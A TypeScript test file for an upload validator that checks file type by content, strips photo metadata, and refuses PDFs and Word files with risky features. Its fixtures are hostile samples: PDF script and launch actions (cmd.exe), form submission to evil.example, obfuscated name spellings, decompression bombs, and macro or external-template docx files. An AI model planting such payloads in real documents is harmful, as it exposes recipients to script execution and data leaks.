import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { deflateSync } from "node:zlib";
import sharp from "sharp";
import { afterEach, beforeEach, expect, it } from "vitest";
import { createDocumentReader, type DocumentReader, NotRead } from "#platform/files/document-reader.ts";
import { attachment, createFiles, DocumentRefused, type Files, serveUpload } from "#platform/files/index.ts";
import { testClock } from "#test/clock.ts";
import { configWith } from "#test/config.ts";
import { docBytes, docxBytes } from "#test/documents.ts";

let dataDir: string;
let files: Files;

/** No machine is too slow for it. */
const reader = createDocumentReader({ after: () => new AbortController().signal });
const filesWith = (reader: DocumentReader) =>
  createFiles({ config: configWith({ dataDir }), clock: testClock(new Date()), reader });

beforeEach(async () => {
  dataDir = await mkdtemp(join(tmpdir(), "startup-connect-documents-"));
  files = await filesWith(reader);
});
afterEach(() => rm(dataDir, { recursive: true, force: true }));

const all = ["pdf", "jpg", "png", "webp", "txt", "doc", "docx"] as const;
const put = (bytes: Uint8Array, endings: Parameters<Files["putDocument"]>[1] = all) =>
  files.putDocument(bytes, endings, "not this kind");
const refusal = (bytes: Uint8Array, endings?: Parameters<Files["putDocument"]>[1]) =>
  put(bytes, endings).then(
    () => "stored",
    (error: unknown) => (error instanceof DocumentRefused ? error.message : String(error)),
  );
const streamOf = (dictionary: string, content: Uint8Array, begin = "stream\n") =>
  Buffer.concat([
    Buffer.from(`<< ${dictionary} /Length ${content.length} >>\n${begin}`, "latin1"),
    content,
    Buffer.from("\nendstream"),
  ]);
const pdfWith = (content: string | Uint8Array) =>
  Buffer.concat([Buffer.from("%PDF-1.7\n1 0 obj\n"), Buffer.from(content), Buffer.from("\nendobj\n%%EOF\n")]);
const packed = (objects: string, dictionary = "/Type /ObjStm /N 1 /First 4", begin = "stream\n") =>
  pdfWith(streamOf(`${dictionary} /Filter /FlateDecode`, deflateSync(objects), begin));
const canvas = () => sharp({ create: { width: 40, height: 30, channels: 3, background: "#21458b" } });
const pdf = Buffer.from("%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n");

it("QUAL-04 REC-25: a document's kind is found in its content, and its stored name is random", async () => {
  const kinds = {
    pdf,
    jpg: await canvas().jpeg().toBuffer(),
    png: await canvas().png().toBuffer(),
    webp: await canvas().webp().toBuffer(),
    txt: Buffer.from("Dear people,\r\n\tगणित\n"),
    doc: docBytes(),
    docx: docxBytes(),
  };
  for (const ending of all) {
    const stored = await put(kinds[ending]);
    expect(stored.path).toMatch(new RegExp(`^/private/[0-9a-f]{32}\\.${ending}$`));
    expect((await files.read(stored.path))?.bytes.byteLength).toBe(stored.size);
    const only = all.filter((one) => one !== ending);
    expect(await refusal(kinds[ending], only), ending).toBe("not this kind");
  }
});

it("QUAL-04: programs, scripts, cut-off files and nothing at all are refused", async () => {
  const evil = [
    Buffer.from("MZ\u0090\0\u0003 a program"),
    Buffer.from("\u007fELF\u0002\u0001\u0001\0"),
    Buffer.from([0xff, 0xfe, 0x41, 0x00]),
    Buffer.alloc(0),
    Buffer.from("PK\u0003\u0004 some other archive"),
  ];
  for (const bytes of evil) expect(await refusal(bytes)).toBe("not this kind");
  expect(await refusal(Buffer.from("<svg><script>alert(1)</script></svg>"), ["pdf", "jpg", "png"])).toBe(
    "not this kind",
  );
  expect(await refusal(pdf.subarray(0, 20))).toMatch(/damaged/);
  const noise = Buffer.from(Uint8Array.from({ length: 30_000 }, (_, n) => (n * 7919) % 256));
  const png = await sharp(noise, { raw: { width: 100, height: 100, channels: 3 } })
    .png()
    .toBuffer();
  expect(await refusal(png.subarray(0, png.length / 2))).toMatch(/damaged/);
});

it("QUAL-04: a photographed paper loses place and camera", async () => {
  const photo = await canvas()
    .withExif({ IFD0: { Make: "Camera" }, IFD3: { GPSLatitude: "28/1 36/1 50/1", GPSLatitudeRef: "N" } })
    .jpeg()
    .toBuffer();
  const { path } = await put(photo);
  const metadata = await sharp((await files.read(path))?.bytes).metadata();
  expect([metadata.format, metadata.exif]).toEqual(["jpeg", undefined]);
});

it("QUAL-03 QUAL-04: no address of uploads leads to a private document, and it is only given as a download", async () => {
  const { path } = await put(pdf);
  for (const wrong of [path, path.replace("/private", "/uploads"), `/uploads/..${path}`]) {
    const response = await serveUpload(
      files,
      wrong.replace("/private/", "/uploads/"),
      new Request("http://localhost/"),
    );
    expect(response.status, wrong).toBe(404);
  }
  const file = await files.read(path);
  const answer = attachment(file ?? { bytes: Buffer.alloc(0), type: "" }, 'गणित "x"\\.pdf');
  expect(answer.headers.get("content-type")).toBe("application/pdf");
  expect(answer.headers.get("content-disposition")).toMatch(/^attachment; filename="[ -~]+"; filename\*=UTF-8''%E0/);
  expect(answer.headers.get("cache-control")).toBe("no-store");
  await files.remove(path);
  expect(await files.read(path)).toBeNull();
});

const SCRIPT = "<< /S /JavaScript /JS (app.alert(1)) >>";
const SITE = "<< /S /URI /URI (https://evil.example) >>";
const RUNS = /actions that run by themselves/;
const OTHER = /actions other than links/;
/** A PDF that opens with an action, and the versions of that. */
const opening = (...versions: string[]) =>
  ["<< /OpenAction 4 0 R >>", ...versions.map((one) => `4 0 obj ${one}`)].join("\nendobj\n");
const linkTo = (action: string) => `<< /Type /Annot /Subtype /Link /A ${action} >>`;
const pdfs = (...parts: Buffer[]) => Buffer.concat(parts);
it.each([
  ["a script", pdfWith(`<< /OpenAction ${SCRIPT} >>`), /holds scripts/],
  ["a script spelt by numbers", pdfWith("<< /#53 %x\n /J#61va#53cript /JS (1) >>"), /holds scripts/],
  ["a list of scripts", pdfWith("<< /Names << /JavaScript 7 0 R >> >>"), /holds scripts/],
  ["a packed script", packed(`7 0 ${SCRIPT}`), /holds scripts/],
  [
    "a script in objects that are not packed",
    pdfWith(streamOf("/Type /ObjStm /N 1 /First 4", Buffer.from(`7 0 ${SCRIPT}`))),
    /scripts/,
  ],
  ["a program to start", pdfWith("<< /S/Launch /F (cmd.exe) >>"), /actions that start programs/],
  ["an attached file", pdfWith("<< /Names << /EmbeddedFiles << /Names [] >> >> >>"), /attached files/],
  ["an XFA form", pdfWith("<< /AcroForm << /XFA [(a) 3 0 R] >> >>"), /an XFA form/],
  ["rich media", pdfWith("<< /Subtype /RichMedia >>"), /rich media/],
  ["a password", pdfWith("<< /Encrypt 9 0 R >>"), /protected or cannot be checked/],
  [
    "objects packed in another way",
    pdfWith(streamOf("/Type/ObjStm /First 4 /Filter [/ASCIIHexDecode /FlateDecode]", Buffer.from("00"))),
    /cannot be checked/,
  ],
  [
    "objects that cannot be unpacked",
    pdfWith(streamOf("/Type /ObjStm /First 4 /Filter /FlateDecode", Buffer.from("nonsense"))),
    /cannot be checked/,
  ],
  ["a script after many blanks", pdfWith(`<< /S ${" ".repeat(31)} /JavaScript /JS (1) >>`), /holds scripts/],
  ["a script after a long comment", pdfWith(`<< /S %${"x".repeat(200)}\n/JavaScript /JS (1) >>`), /holds scripts/],
  ["a script named elsewhere", pdfWith("<< /S 8 0 R >>\nendobj\n8 0 obj /JavaScript"), /holds scripts/],
  ["a script behind a text with an open bracket", pdfWith(`<< /T (\\() /A ${SCRIPT} >>`), /holds scripts/],
  ["a password after many blanks", pdfWith(`<< /Encrypt ${" ".repeat(31)} 9 0 R >>`), /protected/],
  ["data sent away", pdfWith("<< /S /SubmitForm /F (https://evil.example) >>"), /send data/],
  ["another file that it opens", pdfWith("<< /S /GoToR /F (\\\\evil\\share) >>"), /open other files/],
  ["a script in objects of no type", packed(`7 0 ${SCRIPT}`, "/N 1 /First 4"), /holds scripts/],
  ["a script in objects after the text obj", packed(`7 0 ${SCRIPT}`, "/N 1 /First 4 /Z (obj)"), /holds scripts/],
  ["a script in objects after a lone line end", packed(`7 0 ${SCRIPT}`, undefined, "stream\r"), /holds scripts/],
  ["a script in objects after a blank", packed(`7 0 ${SCRIPT}`, undefined, "stream \n"), /holds scripts/],
  [
    "a script in objects after a long dictionary",
    packed(`7 0 ${SCRIPT}`, `/N 1 /First 4 /Z (${"x".repeat(20_000)})`),
    /scripts/,
  ],
  ["a script that begins within a text", packed(`7 1 (${SCRIPT}`), /holds scripts/],
  [
    "a script after a false end",
    pdfWith(streamOf("/N 1 /First 5", Buffer.from(`7 10 endstream ${SCRIPT}`))),
    /holds scripts/,
  ],
  ["a script behind a stray bracket", pdfWith(`<< /A ] /OpenAction ${SCRIPT} >>`), /cannot be checked/],
  ["a stray bracket for a key", pdfWith(`<< ] /A ${SCRIPT} >>`), /cannot be checked/],
  ["a crossed bracket before packed objects", packed(`7 0 ${SCRIPT}`, "/N 1 [ /First 4"), /cannot be checked/],
  ["packed bytes that begin no one can tell where", packed("7 0 <<>>", undefined, "stream x\n"), /cannot be checked/],
  [
    "a script whose name ends beyond ASCII",
    pdfWith(Buffer.from("<< /S /JavaScript\x80/JS (1) >>", "latin1")),
    /scripts/,
  ],
  ["a number behind a comment", pdfWith(`<<>>\nendobj\n8 %${"x".repeat(300)}\n0 obj ${SCRIPT}`), /cannot be checked/],
  [
    "a file attached to a page",
    pdfWith("<< /Subtype /FileAttachment /FS << /EF << /F 5 0 R >> >> >>"),
    /attached files/,
  ],
  [
    "a site called when it is opened",
    pdfWith("<< /OpenAction << /S /URI /URI (https://evil.example) >> >>"),
    /run by themselves/,
  ],
  ["a site called by an object that comes later", pdfWith(`<< /OpenAction 4 0 R >>\nendobj\n4 0 obj ${SITE}`), RUNS],
  ["a site called by a packed object", pdfs(pdfWith("<< /OpenAction 4 0 R >>"), packed(`4 0 ${SITE}`)), RUNS],
  ["a site called by one of two versions", pdfWith(opening("<< /S /GoTo >>", SITE)), RUNS],
  ["a site called after a page", pdfWith(opening("<< /S /GoTo /D [3 0 R] /Next 5 0 R >>")), RUNS],
  [
    "a kind of action said elsewhere",
    pdfWith(`${opening("<< /S 5 0 R /URI (https://a.in) >>")}\nendobj\n5 0 obj /URI`),
    RUNS,
  ],
  ["an action on opening that is not there", pdfWith("<< /OpenAction 4 0 R >>"), /cannot be checked/],
  ["actions of a page said elsewhere", pdfWith("<< /Type /Page /AA 4 0 R >>"), RUNS],
  ["an action we do not know", pdfWith(linkTo("<< /S /Unheard >>")), OTHER],
  ["a command of the menu", pdfWith(linkTo("<< /S /Named /N /Print >>")), OTHER],
  ["a link and an action after it", pdfWith(linkTo("<< /S /URI /URI (https://a.in) /Next 4 0 R >>")), OTHER],
  ["a link to a file", pdfWith(linkTo("<< /S /URI /URI (file://evil/share) >>")), OTHER],
  ["a link to a script", pdfWith(linkTo("<< /S /URI /URI <6a6176617363726970743a> >>")), OTHER],
  [
    "a link to a file in an object of its own",
    pdfWith(`${linkTo("4 0 R")}\nendobj\n4 0 obj << /S /URI /URI (file:a) >>`),
    OTHER,
  ],
  ["a site called by what is no link", pdfWith(`<< /Subtype /Screen /A ${SITE} >>`), OTHER],
  [
    "packed objects after a byte that some take for a blank",
    packed(`7 0 ${SCRIPT}`, undefined, "\x80stream\n"),
    /cannot be checked/,
  ],
  [
    "packed streams that together are too large",
    pdfs(...Array.from({ length: 4 }, () => packed(`7 0 <<>>${" ".repeat(7_000_000)}`))),
    /cannot be checked/,
  ],
  ["packed objects before their beginning", packed(`7 0 ${SCRIPT}`, "/N 1 /First 0"), /cannot be checked/],
  ["a number with a point", pdfWith(`<<>>\nendobj\n8 0.0 obj ${SCRIPT}`), /cannot be checked/],
  ["a number with a sign", pdfWith(`<<>>\nendobj\n8 +0 obj ${SCRIPT}`), /cannot be checked/],
  ["a text without end", pdfWith(`<< /T ${"(".repeat(300_000)} >>`), /cannot be checked/],
  ["objects that begin no one can tell where", packed("7 0 <<>>", "/N 1 /First 9 0 R"), /cannot be checked/],
  [
    "objects that were predicted",
    packed("7 0 <<>>", "/N 1 /First 4 /DecodeParms << /Predictor 12 >>"),
    /cannot be checked/,
  ],
  ["beginnings within each other", pdfWith(`(${" 1 0 obj (".repeat(25_000)}`), /cannot be checked/],
  ["objects that unpack without end", packed(`7 0 <<>>${" ".repeat(30_000_000)}`), /cannot be checked/],
])("QUAL-33: a PDF with %s is refused, and the text says why", async (_what, bytes, text) => {
  expect(await refusal(bytes)).toMatch(text);
});

it("QUAL-33: a document that takes too long is refused as one that cannot be checked", async () => {
  files = await filesWith(() => Promise.reject(new NotRead()));
  expect(await refusal(pdf)).toMatch(/cannot be checked/);
  expect(await refusal(docxBytes())).toBe("not this kind");
});

it("QUAL-33: a PDF that only speaks of scripts, or opens at a page, is taken", async () => {
  const link = linkTo("<< /S /URI /URI (https://docs.example/Web/JavaScript) >>");
  const taken = [
    pdfWith(link),
    packed(`7 0 ${link}`),
    pdfs(pdfWith(linkTo("4 0 R")), packed("4 0 << /S /URI /URI <6D61696C746F3a61406578> >>")),
    pdfWith(linkTo("<< /S /URI /URI (tel:+919876543210) >>")),
    pdfWith(linkTo("<< /S /URI /URI (www.example.in) >>")),
    pdfWith(linkTo("<< /S /Named /N /NextPage >>")),
    pdfWith("<< /OpenAction [3 0 R /Fit] >>"),
    pdfWith(opening("<< /S /GoTo /D [3 0 R /Fit] >>", "[3 0 R /Fit]")),
    // What stands under the same keys and is no action.
    pdfWith("<< /Title (First) /Next 8 0 R /A << /S /GoTo /D (two) >> >>"),
    pdfWith("<< /S /P /A [<< /O /Layout >> 0] >>\nendobj\n2 0 obj << /S /Span /A << /O /Table >> >>"),
    pdfWith(streamOf("/Filter /FlateDecode", deflateSync("BT (/S /JavaScript and /Launch) Tj ET"))),
    pdfWith(`[${" 1".repeat(200_000)}]`),
  ];
  for (const bytes of taken) expect(await refusal(bytes), String(bytes)).toBe("stored");
});

/** The end of a zip that says how many entries there are, without one of them. */
function zip64With(entries: number): Buffer {
  const bytes = Buffer.alloc(102);
  bytes.write("504b0304", 0, "hex");
  bytes.write("504b0606", 4, "hex");
  bytes.writeUInt32LE(44, 8);
  bytes.writeUInt32LE(entries, 28);
  bytes.writeUInt32LE(entries, 36);
  bytes.write("504b0607", 60, "hex");
  bytes.writeUInt32LE(4, 68);
  bytes.write("504b0506", 80, "hex");
  bytes.fill(0xff, 88, 100);
  return bytes;
}

const outside = (type: string) =>
  `<Relationships><Relationship Id="a" Type="http://schemas.example/${type}" Target="https://evil.example/a" TargetMode="External"/></Relationships>`;
it.each([
  ["macros", docxBytes({ "word/vbaProject.bin": "x" }), /holds macros/],
  [
    "macros under another name",
    docxBytes({
      "[Content_Types].xml":
        '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
    }),
    /holds macros/,
  ],
  ["an object", docxBytes({ "word/embeddings/oleObject1.bin": "x" }), /embedded objects/],
  ["a control", docxBytes({ "word/activeX/activeX1.xml": "x" }), /embedded objects/],
  [
    "a template from elsewhere",
    docxBytes({ "word/_rels/settings.xml.rels": outside("attachedTemplate") }),
    /loaded from elsewhere/,
  ],
  [
    "a picture from elsewhere",
    docxBytes({ "word/_rels/document.xml.rels": outside("image") }),
    /loaded from elsewhere/,
  ],
  [
    "a template from elsewhere under a prefix",
    docxBytes({
      "word/_rels/settings.xml.rels": outside("attachedTemplate").replaceAll("Relationship ", "a-b:Relationship "),
    }),
    /^not this kind$/,
  ],
  [
    "a template behind a bracket",
    docxBytes({ "word/_rels/settings.xml.rels": outside("attachedTemplate").replace("Id=", "Target='a>' Id=") }),
    /^not this kind$/,
  ],
  [
    "a frame that looks like a link",
    docxBytes({
      "word/_rels/document.xml.rels": outside("oleFrame").replace("evil.example/a", "evil.example/?Type='/hyperlink'"),
    }),
    /loaded from elsewhere/,
  ],
  [
    "a template behind a namespace",
    docxBytes({
      "word/_rels/settings.xml.rels": outside("attachedTemplate").replace("Id=", "xmlns:x=\" Type='/hyperlink'\" Id="),
    }),
    /^not this kind$/,
  ],
  [
    "another encoding",
    docxBytes({ "word/_rels/a.rels": '<?xml version="1.0" encoding="UTF-7"?><Relationships/>' }),
    /^not this kind$/,
  ],
  ["a list of parts of blanks", docxBytes({ "word/_rels/a.rels": " ".repeat(3_900_000) }), /^not this kind$/],
  [
    "an entry of two names",
    docxBytes({ "word/vbaProject.bin": "x" }, undefined, { 28789: new Uint8Array(9) }),
    /^not this kind$/,
  ],
  ["another document in it", docxBytes({ "word/afchunk.rtf": "x" }), /embedded objects/],
  ["a chunk in it", docxBytes({ "word/_rels/document.xml.rels": outside("aFChunk") }), /embedded objects/],
  ["more entries than it has bytes for", zip64With(0xffffffff), /^not this kind$/],
  [
    "descriptions that unpack without end",
    docxBytes({ "word/_rels/a.rels": " ".repeat(5_000_000) }),
    /^not this kind$/,
  ],
  ["macros in the older format", docBytes("_VBA_PROJECT"), /holds macros/],
  ["an object in the older format", docBytes("ObjectPool"), /embedded objects/],
  ["two files of one name", docxBytes({ "word\\document.xml": "x" }), /^not this kind$/],
  ["a hidden spelling", docxBytes({ "word/_rels/a.rels": outside("im&#97;ge") }), /loaded from elsewhere/],
  ["no document in it", docxBytes({}, "xl/workbook.xml"), /^not this kind$/],
  ["only the name of one", Buffer.from("PK\u0003\u0004 word/document.xml [Content_Types].xml"), /^not this kind$/],
  ["half of it", docxBytes().subarray(0, 200), /^not this kind$/],
  ["a compound file of another program", docBytes("", "Workbook"), /^not this kind$/],
])("QUAL-33: a Word file with %s is refused, and the text says why", async (_what, bytes, text) => {
  expect(await refusal(bytes)).toMatch(text);
});

it("QUAL-33: a Word file with links that a reader may follow is taken", async () => {
  expect(await refusal(docxBytes({ "word/_rels/document.xml.rels": outside("hyperlink") }))).toBe("stored");
});
